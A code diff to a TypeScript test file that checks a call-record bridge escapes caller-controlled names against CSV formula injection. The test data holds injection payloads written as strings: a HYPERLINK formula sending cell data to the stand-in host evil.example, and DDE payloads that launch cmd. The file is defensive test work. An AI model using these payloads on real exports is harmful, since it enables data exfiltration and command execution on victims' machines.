@@ -11,8 +11,8 @@ let bridge: Bridge;
 /** caller_id_name as the caller sent it → as the CSV must carry it (a spreadsheet shows it as text). */
 const NAMES: [string, string][] = [
   ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', `'=HYPERLINK("http://evil.example/?"&A1,"Click me")`],
-  ['+SUM(1+1)*cmd|\' /C calc\'!A0', `'+SUM(1+1)*cmd|' /C calc'!A0`],
-  ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
+  ["+SUM(1+1)*cmd|' /C calc'!A0", `'+SUM(1+1)*cmd|' /C calc'!A0`],
+  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
   ['@SUM(1+1)', "'@SUM(1+1)"],
   ['\t=1+2', "'\t=1+2"],
   ['\r=1+2', "'\r=1+2"],
@@ -71,6 +71,9 @@ it('CSV export: a caller-controlled field starting with = + - @ tab or CR is wri
 
 it('NDJSON and JSON keep the values exactly as recorded (escaping is for spreadsheets only)', async () => {
   const response = await fetch(`${bridge.url}/v1/tenants/${SERVICE}/cdrs?format=ndjson`, { headers: { authorization: `Bearer ${bridge.config.adminToken}` } });
-  const names = (await response.text()).trim().split('\n').map((line) => (JSON.parse(line) as { callerIdName: string }).callerIdName);
+  const names = (await response.text())
+    .trim()
+    .split('\n')
+    .map((line) => (JSON.parse(line) as { callerIdName: string }).callerIdName);
   expect(names.sort()).toEqual(NAMES.map(([name]) => name).sort());
 });
